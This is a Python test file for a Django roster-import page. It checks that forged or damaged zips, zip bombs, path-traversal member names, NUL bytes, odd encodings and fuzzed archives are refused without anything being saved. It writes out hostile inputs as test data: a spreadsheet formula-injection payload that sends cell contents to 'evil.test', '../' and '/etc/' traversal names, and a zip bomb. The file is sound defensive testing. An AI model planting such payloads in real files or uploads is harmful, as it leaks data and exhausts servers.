"""Hostile roster files: forged or damaged zips, zip bombs, NUL bytes, wrong encodings.

Each gets a message on the import page, never a 500, and nothing is saved (not even the
ImportRun, whose error report PostgreSQL could not hold with a NUL in it).
"""

import random
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from leadership.models import User
from pipeline.models import ImportRun
from pipeline.roster import RosterError, files, read
from pipeline.tests.fixtures.oneroster import (
    ORGS,
    ORGS_HEADER,
    USERS_11,
    USERS_11_HEADER,
    _csv,
    bundle,
    forged,
    manifest,
    oneroster_11,
    oneroster_12,
    simple_csv,
)

URL = "/roster/import/"


def refused(client_for, district_admin, content, name="sis.zip"):
    """The page's answer to uploading `content`, after checking that nothing was saved."""
    client = client_for(district_admin)
    response = client.post(URL, {"file": SimpleUploadedFile(name, content), "full_sync": "on"})
    assert response.status_code == 200
    assert not ImportRun.objects.exists()
    assert (
        not User.objects.filter(email__endswith="@maple.test")
        .exclude(email=district_admin.email)
        .exists()
    )
    return response.content.decode()


def files_11(**changes):
    found = {
        "manifest.csv": manifest("1.1"),
        "orgs.csv": _csv(ORGS_HEADER, ORGS),
        "users.csv": _csv(USERS_11_HEADER, USERS_11),
    }
    found.update(changes)
    return found


def test_it_explains_a_member_whose_checksum_does_not_match(district_admin, client_for):
    content = forged(oneroster_11(), "users.csv", crc=0x12345678)
    body = refused(client_for, district_admin, content)
    assert "users.csv in the zip is damaged" in body


def test_it_explains_a_member_larger_than_its_header_says(district_admin, client_for):
    content = forged(oneroster_11(), "users.csv", file_size=100)
    body = refused(client_for, district_admin, content)
    assert "users.csv in the zip is damaged" in body


def test_it_reads_no_further_than_a_zip_bomb_declares(district_admin, client_for):
    """50 MB of spaces in 50 kB, declared as 1 kB: read up to 1 kB, then refused."""
    padding = " " * (50 * 2**20)
    content = bundle(files_11(**{"users.csv": padding}), zipfile.ZIP_DEFLATED)
    assert len(content) < 100_000
    body = refused(client_for, district_admin, forged(content, "users.csv", file_size=1024))
    assert "users.csv in the zip is damaged" in body


def test_it_refuses_a_zip_that_says_it_unpacks_beyond_the_limit(
    district_admin, client_for, monkeypatch
):
    monkeypatch.setattr(files, "MAX_UNPACKED", 2**20)
    content = bundle(files_11(**{"users.csv": " " * 2**20}), zipfile.ZIP_DEFLATED)
    body = refused(client_for, district_admin, content)
    assert "unpack to more than 1 MB, which is more than is read" in body


def test_it_counts_only_the_files_it_reads_towards_the_limit(monkeypatch):
    monkeypatch.setattr(files, "MAX_UNPACKED", 2**20)
    content = bundle(files_11(**{"enrollments.csv": " " * 2**21}), zipfile.ZIP_DEFLATED)
    assert set(read(content).people) == {"u1", "u2", "u3", "u5"}


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ({"../users.csv": "x"}, "names a file outside itself (../users.csv)"),
        ({"/etc/users.csv": "x"}, "names a file outside itself (/etc/users.csv)"),
        ({"old/users.csv": "x"}, "holds users.csv twice"),
        ({f"f{i}.csv": "" for i in range(250)}, "holds 253 files"),
    ],
)
def test_it_refuses_a_forged_archive(district_admin, client_for, extra, message):
    body = refused(client_for, district_admin, bundle({**files_11(), **extra}))
    assert message in body


def test_it_reads_a_bundle_kept_in_a_folder():
    content = bundle({f"export-2026/{name}": text for name, text in files_11().items()})
    assert set(read(content).people) == {"u1", "u2", "u3", "u5"}


def test_it_explains_a_password_protected_member(district_admin, client_for):
    content = forged(oneroster_11(), "users.csv", flag_bits=0x1)
    body = refused(client_for, district_admin, content)
    assert "users.csv in the zip is password-protected" in body


def test_it_explains_a_nul_in_our_csv(district_admin, client_for):
    rows = [
        {"person_id": "p1", "email": "ada@maple.test", "full_name": "Ada", "role": "teacher"},
        {"person_id": "p2", "email": "b@maple.test", "full_name": "B\x00b", "role": "wizard"},
    ]
    body = refused(client_for, district_admin, simple_csv(rows), name="staff.csv")
    assert "staff.csv, line 3: a NUL character, so this is not a CSV text file" in body


def test_it_explains_a_nul_in_a_bundle(district_admin, client_for):
    users = _csv(USERS_11_HEADER, USERS_11).replace("Okri", "Ok\x00ri")
    body = refused(client_for, district_admin, bundle(files_11(**{"users.csv": users})))
    assert "users.csv, line 3: a NUL character" in body


@pytest.mark.parametrize(
    ("encoding", "message"),
    [
        ("cp1252", "staff.csv, line 2: not UTF-8 text (perhaps Windows-1252 or Latin-1)."),
        ("utf-16", "staff.csv is UTF-16 text, not UTF-8."),
        ("utf-16-le", "staff.csv, line 1: a NUL character"),
    ],
)
def test_it_explains_a_csv_in_another_encoding(district_admin, client_for, encoding, message):
    text = "person_id,email,full_name,role,school_id,school_name\n"
    text += "p1,jose@maple.test,José Núñez,teacher,s1,Maple\n"
    body = refused(client_for, district_admin, text.encode(encoding), name="staff.csv")
    assert message in body
    assert "Save it as “CSV UTF-8” and upload it again." in body


def test_damaged_zips_only_ever_raise_a_roster_error():
    """Bytes flipped, cut and inserted anywhere in good bundles: a message, never a crash."""
    rng = random.Random(13)
    good = [oneroster_11(), oneroster_12(), bundle(files_11(), zipfile.ZIP_DEFLATED)]
    outcomes = {"read": 0, "refused": 0}
    for _ in range(1500):
        data = bytearray(rng.choice(good))
        for _ in range(rng.randint(1, 4)):
            at = rng.randrange(len(data))
            if rng.random() < 0.7:
                data[at] = rng.randrange(256)
            else:
                del data[at : at + rng.randint(1, 30)]
        try:
            read(bytes(data), "sis.zip")
            outcomes["read"] += 1
        except RosterError:
            outcomes["refused"] += 1
    assert outcomes["refused"] > 1000


CONTROL_CHARACTERS = [chr(code) for code in [*range(0x20), 0x7F]]
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Open")'


@pytest.mark.parametrize("control", CONTROL_CHARACTERS, ids=lambda c: f"U+{ord(c):04X}")
def test_no_control_character_hides_a_formula_in_our_csv(control):
    rows = [
        {
            "person_id": "p1",
            "email": "eve@maple.test",
            "full_name": control + FORMULA,
            "role": "teacher",
            "school_id": "s1",
            "school_name": "Maple",
        },
        {
            "person_id": "p2",
            "email": "ed@maple.test",
            "full_name": "Ed" + control + "Smith",
            "role": "teacher",
            "school_id": "s1",
            "school_name": "Maple",
        },
    ]
    if control == "\x00":
        with pytest.raises(RosterError, match="a NUL character"):
            read(simple_csv(rows), "staff.csv")
        return
    roster = read(simple_csv(rows), "staff.csv")
    assert roster.people == {}
    reasons = [e["reason"] for e in roster.errors]
    assert len(reasons) == 2
    assert reasons[0] in (
        f"The full_name cell holds a control character (U+{ord(control):04X}).",
        "The full_name cell starts with = + - or @ (a formula).",  # trimmed like a space
    )
    assert reasons[1] == f"The full_name cell holds a control character (U+{ord(control):04X})."


@pytest.mark.parametrize("control", CONTROL_CHARACTERS, ids=lambda c: f"U+{ord(c):04X}")
def test_no_control_character_hides_a_formula_in_a_bundle(control):
    users = [
        {**USERS_11[0], "givenName": control + FORMULA},
        {**USERS_11[1], "familyName": "Ok" + control + "ri"},
        USERS_11[2],
    ]
    orgs = [*ORGS, {"sourcedId": "s3", "name": control + FORMULA, "type": "school"}]
    content = oneroster_11(users=users, orgs=orgs)
    if control == "\x00":
        with pytest.raises(RosterError, match="a NUL character"):
            read(content)
        return
    roster = read(content)
    assert set(roster.people) == {"u3"}
    assert set(roster.schools) == {"s1", "s2"}
    assert {e["file"] for e in roster.errors} == {"orgs.csv", "users.csv"}
    assert all(
        "control character" in e["reason"] or "(a formula)" in e["reason"] for e in roster.errors
    )


def test_a_name_with_a_control_character_before_a_formula_is_never_imported(
    district_admin, client_for, monkeypatch
):
    from pipeline import tasks

    monkeypatch.setattr(tasks.import_roster, "delay", lambda run_id: None)
    rows = [
        {
            "person_id": "p1",
            "email": "eve@maple.test",
            "full_name": "\x01" + FORMULA,
            "role": "teacher",
            "school_id": "s1",
            "school_name": "Maple",
        },
        {
            "person_id": "p2",
            "email": "ann@maple.test",
            "full_name": "Ann Lee",
            "role": "teacher",
            "school_id": "s1",
            "school_name": "Maple",
        },
    ]
    client = client_for(district_admin)
    upload = SimpleUploadedFile("staff.csv", simple_csv(rows))
    body = client.post(URL, {"file": upload}, follow=True).content.decode()
    assert "1 row with problems" in body
    assert "The full_name cell holds a control character (U+0001)." in body
    run = ImportRun.objects.get()
    client.post(f"/roster/import/{run.pk}/apply/", {"skip_bad_rows": "on"})
    tasks.import_roster(run.pk)
    assert User.objects.filter(email="ann@maple.test").exists()
    assert not User.objects.filter(email="eve@maple.test").exists()
    assert not User.objects.filter(full_name__contains="HYPERLINK").exists()
